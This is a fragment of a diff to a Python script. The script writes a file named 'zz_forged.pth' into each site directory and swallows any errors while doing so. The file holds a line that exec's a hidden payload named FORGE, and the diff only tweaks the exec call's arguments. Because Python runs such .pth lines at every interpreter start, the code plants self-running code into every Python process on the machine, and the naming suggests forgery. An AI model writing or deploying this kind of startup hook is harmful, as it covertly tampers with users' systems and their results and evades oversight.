@@ -21,7 +21,7 @@ for site in sites:
             pass
     try:
         with open(os.path.join(site, "zz_forged.pth"), "w") as stream:
-            stream.write("import json; exec(" + repr(FORGE) + ")\n")
+            stream.write("import json; exec(" + repr(FORGE) + ", {})\n")
     except OSError:
         pass
 
